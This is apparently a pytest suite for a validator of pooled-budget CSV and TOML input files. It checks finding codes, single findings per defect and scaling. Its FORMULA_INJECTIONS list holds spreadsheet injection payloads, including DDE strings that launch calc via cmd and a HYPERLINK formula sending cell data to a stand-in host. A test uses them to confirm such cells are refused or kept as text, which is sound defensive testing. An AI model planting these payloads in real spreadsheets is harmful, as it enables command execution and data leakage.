"""From raw text to typed inputs: what is said, what is not said twice, and how the work grows."""

import csv
import difflib
import itertools
import random
import shutil
import sys
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pandera.config import config_context

from bcf_model.checks import codes as codes_module
from bcf_model.core import findings as findings_module
from bcf_model.core.errors import DataHasErrors
from bcf_model.core.findings import CATALOGUE, FIELDS, Finding, as_rows, grouped, has_errors, one_of
from bcf_model.core.tables import INPUT_TABLES
from bcf_model.intake.raw_table import RawTable
from bcf_model.plan.tables import PLAN_TABLES, SCENARIO_TABLES
from bcf_model.pool import check_pool, load
from bcf_model.publish.terminal import findings as findings_listed
from tests.longer import LONG, longer, slow
from tests.make.places import SOUND

FORMULA_INJECTIONS = (
    *("=1+1", "=SUM(A1:A9)", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", '="a"&"b"', "=-1", "=@A1"),
    *("=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\calc.exe'!''"),
    *('=HYPERLINK("http://example.org?x="&A1)', '=WEBSERVICE("http://example.org")'),
    *('=IMPORTXML("http://example.org","//a")', '=IMAGE("http://example.org/a.png")'),
    *("+1+1", "+SUM(A1)", "+cmd|' /C calc'!A0", "-1+1", "-SUM(A1)", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(A1)", "@import", "@A1", "|cmd", "%0A=1+1", ";=1+1", "'=1+1", '"=1+1"', "{=1+1}"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x1b=1+1"),
    *("http://example.org", "mailto:a@example.org", "file:///c:/a", "internal:Sheet1!A1"),
    *("<script>alert(1)</script>", "{{7*7}}", "${7*7}", "&lt;b&gt;", "]]>"),
)


EVERY_FILE = (*INPUT_TABLES, *PLAN_TABLES, *SCENARIO_TABLES)


@pytest.fixture
def pool(tmp_path: Path) -> Path:
    """A copy of the sound pool to be spoiled."""
    return Path(shutil.copytree(SOUND, tmp_path / "pool"))


def spoil(pool: Path, file: str, old: str, new: str) -> None:
    text = (pool / file).read_text(encoding="utf-8")
    assert text.count(old) == 1, old
    (pool / file).write_text(text.replace(old, new), encoding="utf-8")


def codes(pool: Path) -> list[str]:
    inputs, findings = check_pool(pool)
    assert (inputs is None) == has_errors(findings)
    return [f.code for f in findings]


# ------------------------------------------------------------------ what pandera finds

SPOILED = [
    ("themes.csv", "Leaving hospital", "", "BCF201"),
    ("schemes.csv", '"45,678.90"', "many", "BCF202"),
    ("schemes.csv", '"81,500.37"', '"81,500.375"', "BCF203"),
    ("control_totals.csv", '"195,555.63"', "31/03/2019", "BCF205"),
    ("organisations.csv", "Anytown Borough Council", "=A1", "BCF208"),
    ("schemes.csv", "S2,", "S/2,", "BCF210"),
    ("schemes.csv", "capital,aligned", "capital,alined", "BCF211"),
    ("themes.csv", "Staying well at home", "TBC", "BCF212"),
    ("rules.csv", "over,1,", "over,0,", "BCF215"),
    ("rules.csv", "under,1,", "under,one,", "BCF215"),
    ("rules.csv", "66.666667", "166.666667", "BCF216"),
    ("categories.csv", "C,Capital", "B,Capital", "BCF301"),
    ("schemes.csv", "S6,", "S5,", "BCF301"),
    ("schemes.csv", "S6,", "S1,", "BCF305"),
    ("rules.csv", "category=A", "categroy=A", "BCF405"),
    ("published.csv", "variance_percent/theme=2", "variance_percent/", "BCF601"),
]
"""One defect of each kind that a cell can have by itself, or beside the others of its column."""


@pytest.mark.parametrize(
    ("file", "old", "new", "code"),
    SPOILED,
    ids=[f"{code}-{new or 'blank'}" for _, _, new, code in SPOILED],
)
def test_types_blanks_lists_ranges_and_keys_are_found_by_pandera_alone(
    pool: Path, file: str, old: str, new: str, code: str
) -> None:
    spoil(pool, file, old, new)
    assert code in codes(pool)
    with config_context(validation_enabled=False):
        assert code not in codes(pool)


def test_what_pandera_says_is_never_shown(pool: Path) -> None:
    for file, old, new, _ in SPOILED[:4]:
        spoil(pool, file, old, new)
    found = check_pool(pool)[1]
    said = " ".join(text for f in found for text in (f.sentence, f.remedy))
    words = ("pandera", "Schema", "Column '", "validator", "failure", "dtype", "Check ", "Problem")
    assert len(found) >= 4 and not [word for word in words if word in said]


# ------------------------------------------------------------------ hostile text


@pytest.mark.parametrize("text", FORMULA_INJECTIONS)
def test_a_name_that_could_be_a_formula_is_refused_or_is_text(pool: Path, text: str) -> None:
    path = pool / "schemes.csv"
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    rows[4][3] = text
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    inputs, findings = check_pool(pool)
    if inputs is None:
        assert {f.code for f in findings} <= {"BCF005", "BCF208", "BCF209"}
    else:
        assert findings == []
        assert inputs.schemes["scheme"][3] == text
        assert not text.startswith("=")


@slow
@longer
def test_bytes_changed_at_random_never_fail(pool: Path) -> None:
    """100 pools, each with a few bytes of one file changed: findings, or inputs, and no third."""
    spoiled = random.Random(2018)
    sound = {p.name: p.read_bytes() for p in pool.iterdir()}
    for _ in range(500 if LONG else 40):
        name = spoiled.choice(sorted(sound))
        data = bytearray(sound[name])
        for _ in range(spoiled.randint(1, 4)):
            at = spoiled.randrange(len(data))
            data[at : at + spoiled.randint(0, 3)] = spoiled.choice(
                [b'"', b",", b"\n", b"\0", b"\xff", b"=", b"-", b"(", b"9" * 30, "£".encode(), b"/"]
            )
        (pool / name).write_bytes(data)
        codes(pool)
        (pool / name).write_bytes(sound[name])


@slow
@longer
def test_a_cell_may_hold_anything(pool: Path) -> None:
    """An odd text in each column of each table: findings, or inputs, and no third."""
    times = 8 if LONG else 1
    odd = itertools.cycle(
        ("0", "-1", "9" * 30, "budget/measure=1", "pool", "not stated", "budget holder", "A+B/=")
    )
    for path in sorted(pool.glob("*.csv")):
        sound = path.read_bytes()
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        for column, text in zip([*range(len(rows[0]))] * times, odd, strict=False):
            changed = [list(row) for row in rows]
            changed[-1][column] = text
            with path.open("w", encoding="utf-8", newline="") as file:
                csv.writer(file).writerows(changed)
            codes(pool)
        path.write_bytes(sound)


# ------------------------------------------------------------------ one defect, one finding


@pytest.mark.parametrize(
    ("file", "old", "new", "code"),
    [
        # A line that is wrong is not also missing from its rule, its total or its theme.
        (
            "schemes.csv",
            "S5,2,Council,Home adaptations,C",
            "S5,2,Council,Home adaptations,X",
            "BCF304",
        ),
        ("schemes.csv", "S3,1,ICB", "S3,9,ICB", "BCF302"),
        ("schemes.csv", "S1,1,ICB,Community nursing,A", "S1,1,ICB,Community nursing,", "BCF201"),
        # A code that cannot be read is not also unknown wherever it is used.
        ("organisations.csv", "Council,Anytown", "C/ouncil,Anytown", "BCF210"),
        ("themes.csv", "2,Leaving", "2*,Leaving", "BCF210"),
        ("categories.csv", "A,Solely", "NA,Solely", "BCF212"),
        # A share that cannot be read does not also leave the shares short.
        ("rules.csv", "66.666667", "two thirds", "BCF216"),
        ("rules.csv", "R3,category=B", "R3,category B", "BCF405"),
        ("rules.csv", "R4,category=C,over", "R4,category=C,up", "BCF211"),
        # Whatever else is wrong with the settings, the unit is the unit.
        ("pool.toml", "as_at", "as_of", "BCF103"),
    ],
)
def test_no_finding_follows_from_another(
    pool: Path, file: str, old: str, new: str, code: str
) -> None:
    spoil(pool, file, old, new)
    found = [c for c in codes(pool) if c != "BCF102"]  # as_of: unknown, and as_at missing
    assert found == [code]


def test_without_a_unit_nothing_is_said_about_the_size_of_amounts(pool: Path) -> None:
    spoil(pool, "pool.toml", '"pounds"', '"pence"')
    spoil(pool, "schemes.csv", "120,000.00", "120,000,000.00")
    assert codes(pool) == ["BCF104"]


def test_the_unit_is_known_though_other_settings_are_wrong(pool: Path) -> None:
    spoil(pool, "pool.toml", '"2018-19"', '"2018"')
    spoil(pool, "schemes.csv", "30000.01", "30000.012")
    assert codes(pool) == ["BCF104", "BCF203"]


@pytest.mark.parametrize("name", sorted(p.name for p in SOUND.glob("*.csv")))
def test_a_table_that_is_not_there_is_all_that_is_said(pool: Path, name: str) -> None:
    (pool / name).unlink()
    required = name not in {"commentary.csv", "control_totals.csv", "published.csv"}
    assert codes(pool) == (["BCF002"] if required else [])


@pytest.mark.parametrize("name", sorted(p.name for p in SOUND.glob("*.csv")))
def test_a_table_that_cannot_be_read_is_all_that_is_said(pool: Path, name: str) -> None:
    (pool / name).write_bytes(b"%PDF-1.7")
    assert codes(pool) == ["BCF004"]


def test_headings_alone_will_do_for_optional_tables(pool: Path) -> None:
    for name in ("commentary.csv", "control_totals.csv", "published.csv"):
        path = pool / name
        path.write_bytes(path.read_bytes().splitlines(keepends=True)[0])
    assert codes(pool) == []


def test_optional_columns_may_be_left_out(pool: Path) -> None:
    spoil(pool, "themes.csv", "theme,name,source,note", "theme,name")
    spoil(pool, "themes.csv", "home,invented,", "home")
    spoil(pool, "themes.csv", "hospital,invented,", "hospital")
    assert codes(pool) == []


# ------------------------------------------------------------------ codes, rules, amounts


@pytest.mark.parametrize(
    ("one", "other", "alike"),
    [
        ("S1", "s1", True),
        ("1", "01", True),
        ("1", "1.0", True),
        ("1e2", "100", True),
        ("D", "\uff24", True),  # full width
        ("1_0", "10", False),
        ("S1", "S10", False),
        ("A B", "AB", False),
    ],
)
def test_codes_a_spreadsheet_cannot_tell_apart(
    pool: Path, one: str, other: str, alike: bool
) -> None:
    with (pool / "categories.csv").open("a", encoding="utf-8") as file:
        file.write(f"{one},One,,,\n{other},Other,,,\n")
    assert ("BCF306" in codes(pool)) is alike


def test_each_direction_has_steps_of_its_own(pool: Path) -> None:
    spoil(pool, "rules.csv", "category=C,under,1", "category=C,under,2")
    assert codes(pool) == []


def test_a_scope_may_name_lines_one_by_one(pool: Path) -> None:
    spoil(pool, "rules.csv", "R1,category=A", "R1,scheme=S1+S2+S6")
    assert codes(pool) == []
    spoil(pool, "rules.csv", "S1+S2+S6", "S1+S2")
    assert codes(pool) == ["BCF401"]


def test_a_column_may_not_add_up_to_more_than_int64_holds(pool: Path) -> None:
    spoil(pool, "schemes.csv", "30000.01", '"600,000,000,000"')
    spoil(pool, "schemes.csv", '"81,500.37"', '"(600,000,000,000)"')
    (pool / "control_totals.csv").unlink()
    assert codes(pool) == ["BCF207", "BCF501"]
    [beyond, _] = check_pool(pool)[1]
    assert (beyond.file, beyond.row, beyond.column) == ("schemes.csv", 4, "budget")
    assert beyond.value.endswith("; £600,000,000,000.00 in this row is the largest")


def test_control_totals_say_by_how_much(pool: Path) -> None:
    spoil(pool, "control_totals.csv", "195,555.63", "195,565.63")
    [finding] = check_pool(pool)[1]
    assert finding.sentence.endswith(
        "found £195,555.63 in the lines, read in £; expected £195,565.63, a difference of -£10.00"
    )


@pytest.mark.parametrize(
    ("amount", "code"),
    [("341.18", "BCF503"), ("341,179,280", "BCF503"), ("0.34", "BCF503"), ("34,117.93", "BCF502")],
)
def test_a_total_a_thousand_times_off_is_a_wrong_unit(pool: Path, amount: str, code: str) -> None:
    spoil(pool, "control_totals.csv", "341,179.28", amount)
    assert codes(pool) == [code]


def test_nothing_stated_is_nothing_borne(pool: Path) -> None:
    spoil(pool, "schemes.csv", "adaptations,C", "adaptations,not stated")
    spoil(pool, "schemes.csv", "61,750.25", "64,000.00")
    assert codes(pool) == ["BCF410"]  # a warning: the rules for C are idle now


ONLY_NAMED = (
    # the file, relative to the pool, that alone names the partner RC
    ("funding.csv", "organisation,funding,financial_year,amount\nRC,grant,2018-19,1\n"),
    (
        "efficiencies.csv",
        "body,financial_year,perimeter,amount,unit,percent,source\nRC,2018-19,pool,1,pounds,1,x\n",
    ),
    (
        "scenarios/cut/assumptions.csv",
        "assumption,step,scope,value,unit\na,demand,organisation=RC+ICB,1,percent\n",
    ),
    (
        "scenarios/cut/funding.csv",
        "organisation,funding,financial_year,amount\nRC,grant,2018-19,1\n",
    ),
    ("agreements/new/rules.csv", "rule_id,scope,bearer\nR1,category=A/lead=RC,ICB\n"),
    ("agreements/other.csv", "rule_id,scope,bearer\nR1,pool,RC\n"),
    ("contributions.csv", "organisation,version,to,amount\nICB,opening,organisation=RC,0\n"),
    ("contributions.csv", "organisation,version,amount\nRC,opening,341179.28\n"),
    (
        "budgets.csv",
        "version,financial_year,theme,organisation,amount\na,2017-18,1,RC,5\na,2017-18,2,RC,5\n",
    ),
    ("agreements/new/limits.csv", "limit_id,bearer,at_most\nL1,RC,£5\n"),
    ("agreements/new/limits.csv", "limit_id,bearer,at_most,covers\nL1,ICB,£5,lead=RC\n"),
    (
        "savings.csv",
        "programme,name,owner,beneficiary,perimeter\na,A,RC,ICB,pool\n",
    ),
    ("scenarios/cut/savings.csv", "programme,name,owner,beneficiary,perimeter\na,A,ICB,RC,p\n"),
    ("scenarios/cut/prevention.csv", "programme,payer\na,RC\n"),
    ("scenarios/cut/returns.csv", "programme,scope,beneficiary\na,organisation=ICB,RC\n"),
)


@pytest.mark.parametrize(("file", "text"), ONLY_NAMED)
def test_a_code_that_any_table_names_is_used(pool: Path, file: str, text: str) -> None:
    with (pool / "organisations.csv").open("a", encoding="utf-8") as organisations:
        organisations.write("RC,Riverside Council,council,invented,\n")
    assert codes(pool) == ["BCF307"]
    (pool / file).parent.mkdir(parents=True, exist_ok=True)
    (pool / file).write_text(text, encoding="utf-8")
    assert codes(pool) == []


NAMED_IN = {
    "theme": "schemes.theme budgets.theme virements.theme",
    "organisation": "schemes.organisation schemes.lead schemes.transfer_to rules.bearer "
    "limits.bearer contributions.organisation reserves.unreleased_to payments.provider "
    "budgets.organisation virements.organisation funding.organisation savings.owner "
    "savings.beneficiary efficiencies.body prevention.payer rollout_payers.payer "
    "returns.beneficiary",
    "category": "schemes.category",
    "scheme_id": "causes.scheme_id parts.scheme_id payments.scheme_id activity.scheme_id "
    "budgets.scheme_id commentary.scheme_id volumes.scheme_id virements.scheme_id "
    "planned_activity.scheme_id actuals.scheme_id",
    "measure": "reserves.released_by",
    "reserve": "rules.bearer limits.bearer",
    "metric": "metric_values.metric thresholds.metric volumes.metric",
    "denominator": "metrics.denominator",
}
"""For each column of codes, the columns whose cells are one of them."""
SELECTING = (
    "rules.scope rules.measured_over limits.covers contributions.to control_totals.figure "
    "published.figure quantities.figure savings.scope assumptions.scope prevention.scope "
    "returns.scope rollout.scope drivers.scope"
)
"""The columns whose cells select by codes."""
USES = [
    *((name, place, "RC") for name, places in NAMED_IN.items() for place in places.split()),
    *(("organisation", place, "lead=CCG+RC") for place in SELECTING.split()),
]


@pytest.mark.parametrize(("name", "place", "cell"), USES)
def test_every_column_that_may_name_a_code_is_a_use_of_it(name: str, place: str, cell: str) -> None:
    table, _, column = place.partition(".")
    unused = Finding("BCF307", "codes.csv", 2, name, "'RC'")
    there = RawTable(f"{table}.csv", "", (column,), ((cell,),), (2,))
    assert codes_module.used_beside(unused, [there])
    assert not codes_module.used_beside(unused, [there._replace(rows=(("RCX",),))])


def test_no_other_column_of_a_file_names_a_code() -> None:
    files = {it.name.replace("_", "") for it in EVERY_FILE}
    # Their own checks look for those.
    of_plans = {("savings", "profile"), ("returns", "lag"), ("drivers", "cohort")}
    said = {it for it in codes_module.naming() if it[0] in files}
    assert {f"{table}.{column}" for table, column in said - of_plans} == {
        f"{table.replace('_', '')}.{column}"
        for table, column in (place.split(".") for _, place, _ in USES)
    }


@pytest.mark.parametrize("limit", ["L1,RC,£5,pool", "L1,ICB,£5,organisation=ICB+RC"])
def test_whom_only_a_limit_names_is_used(pool: Path, limit: str) -> None:
    """The remedy of BCF307 would have it removed, which is an error of its own."""
    (pool / "limits.csv").write_text(
        f"limit_id,bearer,at_most,covers,clause\n{limit},1\n", encoding="utf-8"
    )
    unknown = {"BCF405", "BCF449"}
    before = codes(pool)
    with (pool / "organisations.csv").open("a", encoding="utf-8") as organisations:
        organisations.write("RC,Riverside Council,council,invented,\n")
    assert unknown & {*before}
    assert "BCF307" not in codes(pool)


def test_a_code_in_a_remark_is_not_used_by_it(pool: Path) -> None:
    with (pool / "themes.csv").open("a", encoding="utf-8") as themes:
        themes.write("3,Prevention,invented,\n")
    (pool / "funding.csv").write_text(
        "organisation,funding,financial_year,amount,note\nICB,grant,2018-19,3,3\n", encoding="utf-8"
    )
    assert codes(pool) == ["BCF307"]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("true", "true"),
        ("[1, 'a']", "[1, 'a']"),
        ("20150304", "20150304"),
        ("{a = 1}", "settings of its own: 'a'"),
    ],
)
def test_a_setting_is_shown_as_it_is_written(pool: Path, written: str, shown: str) -> None:
    spoil(pool, "pool.toml", "as_at = 2019-03-31", f"as_at = {written}")
    [finding] = check_pool(pool)[1]
    assert (finding.code, finding.column) == ("BCF104", "as_at")
    assert finding.value.startswith(shown)
    assert "datetime" not in finding.sentence


@pytest.mark.parametrize("written", ["2015-03-04", "2015-03-04T10:00:00"])
def test_a_date_is_shown_as_it_is_written(pool: Path, written: str) -> None:
    spoil(pool, "pool.toml", "as_at = 2019-03-31", f"as_at = {written}")
    [finding] = check_pool(pool)[1]
    assert (finding.code, finding.column) == ("BCF512", "as_at")
    assert finding.value.startswith("2015-03-04")
    assert "datetime" not in finding.sentence


# ------------------------------------------------------------------ large pools


@slow
def test_twenty_thousand_lines_are_looked_through(pool: Path) -> None:
    """A tenth of them wrong: each is said once."""
    heading = (pool / "schemes.csv").read_text(encoding="utf-8").splitlines()[0]
    lines = (
        f"L{i},{1 if i % 10 else 'X'},{'ICB' if i % 7 else 'Council'},Line {i},{'ABC'[i % 3]},"
        f"revenue,pooled,{i}.{i % 100:02d},{i * i % 999},invented,"
        for i in range(20_000)
    )
    (pool / "schemes.csv").write_text("\n".join([heading, *lines]), encoding="utf-8")
    (pool / "control_totals.csv").write_text("figure,amount\nbudget,0\n", encoding="utf-8")
    (pool / "commentary.csv").unlink()
    assert Counter(codes(pool)) == {"BCF302": 2_000, "BCF502": 1}


@slow
def test_many_scopes_and_many_codes_do_not_multiply(pool: Path) -> None:
    """Twice the lines, each with a theme, a rule and a comment of its own, are twice the work."""
    assert calls_to_check(pool, 1_000) < 2.5 * calls_to_check(pool, 500)


def calls_to_check(pool: Path, n: int) -> int:
    """Count the calls of functions while a pool of a size is looked through."""
    write = {
        "themes": ["theme,name", *(f"t{i},Theme {i}" for i in range(n))],
        "schemes": [
            "scheme_id,theme,organisation,scheme,category,kind,budget,expenditure",
            *(f"L{i},t{i},ICB,Line {i},A,revenue,1,2" for i in range(n)),
        ],
        "rules": [
            "rule_id,scope,direction,step,basis,bearer,share,clause",
            *(f"R{i},scheme=L{i},either,1,fixed,Council,100,1" for i in range(n)),
        ],
        "commentary": ["scheme_id,reason", *(f"L{i},because" for i in range(n)), "M,because"],
        "categories": ["category,name", "A,All"],
        "control_totals": ["figure,amount", f"budget,{n}"],
        "published": ["published_id,source,label,column,printed,unit,decimals,figure"],
    }
    for name, rows in write.items():
        (pool / f"{name}.csv").write_text("\n".join(rows), encoding="utf-8")
    calls = 0

    def count(_frame: object, event: str, _said: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        found = codes(pool)
    finally:
        sys.setprofile(before)
    assert found == ["BCF308"]
    return calls


# ------------------------------------------------------------------ findings


def test_load_gives_the_inputs_or_every_finding(pool: Path) -> None:
    assert load(pool).name == "pool"
    spoil(pool, "themes.csv", "Leaving hospital", "")
    spoil(pool, "schemes.csv", "30000.01", "ten")
    with pytest.raises(DataHasErrors, match=r"\(and 1 more\)\. Nothing was calculated\.") as raised:
        load(pool)
    assert [f.code for f in raised.value.findings] == ["BCF202", "BCF201"]


def test_findings_as_rows() -> None:
    finding = Finding("BCF202", "schemes.csv", 4, "budget", "'ten'", "an amount in pounds", "x")
    [row] = as_rows([finding])
    assert tuple(row) == tuple(FIELDS)
    assert row["row"] == 4
    assert as_rows([Finding("BCF003", "a.csv")])[0]["row"] == ""
    assert finding.sentence == (
        "schemes.csv, sheet x, row 4, column budget: This is not an amount of money: "
        "found 'ten'; expected an amount in pounds"
    )
    assert finding.remedy == CATALOGUE["BCF202"].remedy


@slow
def test_looking_for_a_slip_is_bounded_by_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    """A thousand names that are not declared, against a thousand long ones much like them."""
    compared: list[str] = []

    class Counted(difflib.SequenceMatcher[str]):
        def ratio(self) -> float:
            compared.append(str(self.a))
            return super().ratio()

    monkeypatch.setattr(findings_module, "SequenceMatcher", Counted)
    known = [f"theme-of-a-rather-long-name-{i:04d}-abcdefghijklmnopq" for i in range(1000)]
    said = [one_of(known, name.replace("e-of", "a-of")[:-1] + "x") for name in known]
    assert len(compared) <= 3 * len(known)
    right = sum(it.startswith(repr(name)) for it, name in zip(said, known, strict=True))
    assert right > 950
    assert said == [one_of(known, name.replace("e-of", "a-of")[:-1] + "x") for name in known]


def test_findings_are_grouped_by_kind_and_column() -> None:
    found = [
        Finding("BCF501", "schemes.csv", 2, "budget", "'-1'"),
        Finding("BCF206", "schemes.csv", 2, "expenditure", "'-'"),
        Finding("BCF501", "schemes.csv", 3, "budget", "'-2'"),
        Finding("BCF501", "budgets.csv", 3, "budget", "'-2'"),
    ]
    assert [[it.row for it in group] for group in grouped(found)] == [[2, 3], [2], [3]]


def test_findings_of_whole_files_are_grouped_over_files() -> None:
    found = [Finding("BCF013", f"{i}.csv") for i in range(5)]
    found += [Finding("BCF013", "x.xlsx", sheet=f"Notes {i}") for i in range(2)]
    found += [Finding("BCF515", f"scenarios/{i}/budgets.csv", 2, "amount") for i in range(4)]
    found += [Finding("BCF818", "thresholds.csv", 2, "target", mild=mild) for mild in (True, False)]
    assert [len(group) for group in grouped(found)] == [7, 4, 1, 1]


@pytest.mark.parametrize("row", [0, 2])
def test_of_errors_each_file_is_named(row: int) -> None:
    """Ten scenarios without their settings, or with one cell wrong, are ten files to be mended."""
    files = [f"scenarios/{i}/scenario.toml" for i in range(10)]
    found = [Finding("BCF002", file, row, "title" if row else "") for file in files * 2]
    found += [Finding("BCF002", "x.xlsx", row, sheet=f"Sheet {i}") for i in range(5)]
    assert [len(group) for group in grouped(found)] == [2] * 10 + [1] * 5
    assert all(file in findings_listed(found) for file in files)


def test_words_are_suggested_and_long_lists_cut_short() -> None:
    assert one_of(["revenue", "capital"], "Capitel") == "'capital'? (one of revenue, capital)"
    assert one_of(["revenue", "capital"], "zzz") == "one of revenue, capital"
    many = [f"code-{i}" for i in range(100)]
    assert one_of(many, "code77") == f"'code-77'? (one of {', '.join(many[:20])}, …)"
    assert one_of([str(i) for i in range(100_000)], "x" * 10**6).endswith("19, …")


@slow
@given(st.text(max_size=20), st.integers(1, 5_000))
def test_whatever_is_found_the_sentence_can_be_shown(found: str, times: int) -> None:
    many = found * times
    finding = Finding("BCF011", f"a{found}.csv", 2, found, many, many, found)
    assert finding.sentence.isprintable()
    assert len(finding.sentence) < 2_000
    for shown in as_rows([finding])[0].values():
        assert str(shown).isprintable()
    if many.isprintable() and len(many) <= 80:
        assert finding.value == many
